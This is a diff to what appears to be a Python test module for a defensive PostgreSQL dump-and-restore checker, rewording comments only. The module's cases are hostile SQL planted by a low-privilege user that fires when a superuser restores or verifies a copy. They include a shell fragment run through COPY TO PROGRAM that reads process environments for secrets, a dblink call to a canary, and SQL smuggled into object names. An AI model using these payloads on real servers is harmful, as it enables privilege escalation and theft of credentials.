@@ -1,8 +1,8 @@
-"""The places where PostgreSQL evaluates code that a database's users wrote, each as SQL that plants hostile code there.
+"""The places where PostgreSQL evaluates code of a database's users, each as SQL that plants hostile code there.
 
-In the SQL, of the case NAME: @x is NAME, @n mallory.NAME, @f a function from int to int, @d a domain and @c a composite type
-that call it, @t a trigger's and @e an event trigger's function; {folder}, {secret}, {port NAME} are places of the canary. See
-hostile.py.
+In the SQL of the case NAME: @x is NAME, @n mallory.NAME, @f a function from int to int, @d a domain and @c a composite
+type that call it, @t a trigger's and @e an event trigger's function; {folder}, {secret}, {port NAME} are places of the
+canary. See hostile.py.
 """
 
 import dataclasses
@@ -10,19 +10,19 @@ import dataclasses
 
 @dataclasses.dataclass(frozen=True)
 class Case:
-    """`plant` is run by mallory, `admin` then by a superuser whose object refers to mallory's code. `trigger`: what a superuser
-    does in a restored copy to see the case fire; without it the restore itself does."""
+    """mallory runs `plant`; then a superuser runs `admin`, whose object refers to mallory's code. `trigger`: SQL that a
+    superuser runs in a restored copy to see the case fire; without it the restore itself makes it fire."""
 
     name: str
     plant: str = ""
     admin: str = ""
     trigger: str = ""
-    extension: str = ""  # without which there is no such case
+    extension: str = ""  # needed for this case
 
 
 def _literal(name, sql, **more):
-    """The text of a constant is read by its type's input function whenever a definition is parsed: with a domain within, that
-    runs its check."""
+    """The input function of a type reads the text of a constant whenever a definition is parsed. If the type contains a
+    domain, that runs its check."""
     return Case("literal_in_" + name, sql.replace("LITERAL", "'(1)'::@c"), **more)
 
 
@@ -30,7 +30,7 @@ INSERT = "INSERT INTO @n VALUES (1)"
 TABLE = "CREATE TABLE @n (a int); INSERT INTO @n VALUES (1);"
 HOLDS = "(@f(a) = a)"
 
-# What is evaluated as rows come in.
+# Evaluated when rows are loaded.
 ROWS = [
     Case("table_check", f"CREATE TABLE @n (a int CHECK {HOLDS}); {INSERT}"),
     Case("check_through_sql_body", "CREATE FUNCTION @n(a int) RETURNS boolean IMMUTABLE BEGIN ATOMIC SELECT @f($1) = 1; END;"
@@ -77,7 +77,7 @@ ROWS = [
          "1)"),
 ]
 
-# What is evaluated as definitions are made.
+# Evaluated when definitions are created.
 DEFINITIONS = [
     Case("partition_key_folded", "CREATE TABLE @n (a int) PARTITION BY RANGE ((a + @f(1)))"),
     Case("range_bound_of_domain", "CREATE TABLE @n (a @d) PARTITION BY RANGE (a); CREATE TABLE mallory.bound_range PARTITION OF @n FOR "
@@ -94,7 +94,7 @@ DEFINITIONS = [
     _literal("partition_key", "CREATE TABLE @n (a int) PARTITION BY LIST ((a + (LITERAL).a))"),
     _literal("sql_body", "CREATE FUNCTION @n() RETURNS int BEGIN ATOMIC SELECT (LITERAL).a; END"),
     _literal("argument_default", "CREATE FUNCTION @n(a @c DEFAULT LITERAL) RETURNS int LANGUAGE sql AS 'SELECT 1'"),
-    # Types come early in a dump: what they need must be a dependency, as the body of such a function is.
+    # Types come early in a dump, so everything they need must be a dependency, like the body of such a function.
     Case("literal_in_domain_check", "CREATE FUNCTION mallory.tracked(int) RETURNS int IMMUTABLE BEGIN ATOMIC SELECT CASE WHEN "
          "mallory.fire('@x') THEN $1 END; END;"
          "CREATE DOMAIN mallory.tracked_domain AS int CHECK (mallory.tracked(VALUE) = VALUE); CREATE TYPE mallory.tracked_type AS (a "
@@ -109,8 +109,8 @@ DEFINITIONS = [
     _literal("materialized_view", "CREATE MATERIALIZED VIEW @n AS SELECT LITERAL AS a WITH NO DATA"),
 ]
 
-# What the server evaluates when constraints are validated, indexes built and views refreshed. Where it builds an index,
-# analyses or refreshes a view it does so as the owner: there the trigger shows that the code is live when a superuser writes.
+# Evaluated when constraints are validated, indexes built and views refreshed. When the server builds an index, analyses
+# or refreshes a view, it does so as the owner: there the trigger shows that the code is live when a superuser writes.
 CONSTRAINTS = [
     Case("check_validated", f"{TABLE} ALTER TABLE @n ADD CONSTRAINT later CHECK {HOLDS} NOT VALID", trigger="ALTER TABLE @n VALIDATE "
          "CONSTRAINT later"),
@@ -143,7 +143,7 @@ CONSTRAINTS = [
          "nextval(mallory.which()))", trigger=INSERT),
 ]
 
-# What is evaluated when something is written to restored tables.
+# Evaluated when somebody writes to restored tables.
 WRITES = [
     Case("insert_rule", "CREATE TABLE @n (a int); CREATE RULE r AS ON INSERT TO @n DO ALSO SELECT @f(1)", trigger=INSERT),
     Case("trigger_before_row", f"{TABLE} CREATE TRIGGER t BEFORE INSERT ON @n FOR EACH ROW EXECUTE FUNCTION @t()", trigger=INSERT),
@@ -208,7 +208,8 @@ REFERRED = [
          f"CREATE TABLE victim.@x (a int CHECK {HOLDS}); INSERT INTO victim.@x VALUES (1)"),
 ]
 
-# Event triggers are a superuser's, their functions mallory's. Where a database has them they see also what is done after a restore.
+# Event triggers belong to a superuser, their functions to mallory. In a database with event triggers, they also fire
+# after a restore.
 EVENTS = [
     Case("event_ddl_start", admin="CREATE EVENT TRIGGER @x ON ddl_command_start EXECUTE FUNCTION @e()", trigger="CREATE TABLE "
          "public.ddl_start ()"),
@@ -226,7 +227,7 @@ EVENTS = [
 
 BODY = "LANGUAGE plpgsql AS 'BEGIN PERFORM @f(1); RETURN {}; END'"
 
-# Code that a query of whoever verifies calls, without meaning to; the query is the trigger.
+# Code that a query of a verifying user calls unintentionally; the query is the trigger.
 QUERIES = [
     Case("query_of_view", "CREATE VIEW @n AS SELECT @f(1) AS a; GRANT SELECT ON @n TO PUBLIC", trigger="SELECT * FROM @n"),
     Case("query_of_function", "CREATE TABLE public.people (name varchar); INSERT INTO public.people VALUES ('x'); GRANT SELECT ON "
@@ -257,7 +258,7 @@ WEIRD = "CREATE ROLE escaped_@x; --"
 
 
 def _careless(read):
-    """A client that puts a text between quotes as it is: what it runs shows that the text is a live attack."""
+    """A client that puts a text between quotes without escaping: if it runs the text, the text is a live attack."""
     return f"DO $do$ BEGIN EXECUTE 'SELECT 1 AS \"' || ({read}); END $do$"
 
 
@@ -265,7 +266,7 @@ def _relation(like):
     return f"SELECT relname FROM pg_class WHERE relkind = 'r' AND relname LIKE '%{like}%'"
 
 
-# Names and texts that hold SQL.
+# Names and texts that contain SQL.
 NAMES = [
     Case("name_of_table", f'CREATE TABLE mallory."x""; {WEIRD}" (a int); INSERT INTO mallory."x""; {WEIRD}" VALUES (1)',
          trigger=_careless(_relation("escaped_@x"))),
@@ -297,7 +298,7 @@ HOSTILE = USERS + REFERRED + EVENTS
 
 
 def _view(name, select, before="", **more):
-    """A materialized view that was filled once: to restore it is to read it again."""
+    """A materialized view that was filled once: its restore reads it again."""
     return Case(name, admin=f"{before}CREATE MATERIALIZED VIEW public.@x AS {select} WITH NO DATA; "
                 "UPDATE pg_class SET relispopulated = true WHERE relname = '@x'", **more)
 
@@ -306,7 +307,7 @@ SHELL = "umask 0; (id -un; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a {
 LINK = "SELECT * FROM public.dblink('host={place} user=postgres dbname=postgres connect_timeout=2', 'SELECT 1') AS t(a int)"
 DBLINK = "CREATE EXTENSION IF NOT EXISTS dblink; "
 
-# What only a superuser of the source can have made, or granted: a machine that verifies contains that as well.
+# Cases that only a superuser of the source can create or grant: a verifying machine contains them as well.
 MACHINE = [
     Case("own_check", admin=f"CREATE FUNCTION public.@x(int) RETURNS boolean LANGUAGE plpgsql AS $f$BEGIN COPY (SELECT 1) TO PROGRAM "
          f"$p$cat > /dev/null; {SHELL}$p$; "
@@ -347,7 +348,7 @@ MACHINE = [
 LISTENING = ("link_to_port", "link_to_socket", "foreign_table", "subscription")
 MACHINE_ANSWERS = ("SELECT s FROM public.view_of_secret",)
 
-# What PostgreSQL 17 and 18 brought.
+# New in PostgreSQL 17 and 18.
 NEWER = [
     Case("event_login", admin="CREATE EVENT TRIGGER @x ON login EXECUTE FUNCTION @e()", trigger="SELECT 1"),
     Case("event_login_always", admin="CREATE EVENT TRIGGER @x ON login EXECUTE FUNCTION @e(); ALTER EVENT TRIGGER @x ENABLE "
